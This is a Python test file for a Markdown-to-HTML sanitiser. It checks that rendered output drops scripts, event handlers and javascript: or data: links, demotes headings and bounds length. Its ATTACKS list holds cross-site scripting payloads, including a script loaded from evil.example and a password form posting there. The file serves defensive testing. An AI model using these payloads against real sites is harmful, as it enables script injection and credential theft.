"""Markdown in, safe HTML out: scripts, ``javascript:`` links and event handlers never survive,
whatever way they are written; headings move below the page's own."""
from __future__ import annotations

from html.parser import HTMLParser

import pytest

from plugins.knowledge.rendering import MAX_LENGTH, to_html

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    '<a href="javascript:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<img src=x onerror="alert(1)">',
    '<b onmouseover="alert(1)">bold</b>',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    '<iframe src="https://evil.example"></iframe>',
    '<style>body { display: none }</style>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<form action="https://evil.example"><input name="password"></form>',
    "![x](javascript:alert(1))",
    '<a href="https://ok.example" onclick="alert(1)">ok</a>',
]


class Elements(HTMLParser):
    """Every element and attribute of a fragment, as a browser would read them."""

    def __init__(self):
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_survives(attack):
    html = str(to_html(f"Before\n\n{attack}\n\nAfter"))
    parsed = Elements()
    parsed.feed(html)
    assert not set(parsed.tags) & {"script", "iframe", "style", "svg", "form", "input", "img", "object", "embed"}, html
    for name, value in parsed.attributes:
        assert not name.startswith("on") and name != "style", (attack, html)
        assert not value.strip().lower().startswith(("javascript:", "data:", "vbscript:")), (attack, html)
    assert "alert(1)</script" not in html and "Before" in html and "After" in html


def test_markdown_is_rendered_and_links_are_marked():
    html = str(to_html("# Heading\n\nSome **bold** and *italic*.\n\n- one\n- two\n\n"
                       "[a link](https://example.org/x) and <mail@example.org>\n\n> a quote"))
    assert "<h3>Heading</h3>" in html and "<h1" not in html and "<h2" not in html
    assert "<strong>bold</strong>" in html and "<em>italic</em>" in html and "<li>one</li>" in html
    assert '<a href="https://example.org/x" rel="noopener noreferrer nofollow ugc">a link</a>' in html
    assert "<blockquote>" in html


def test_text_is_escaped_and_length_is_bounded():
    assert "&lt;3" in str(to_html("I <3 this &amp; that"))
    assert to_html("") == "" and to_html(None) == ""
    assert "tail" not in str(to_html("a" * MAX_LENGTH + " tail"))
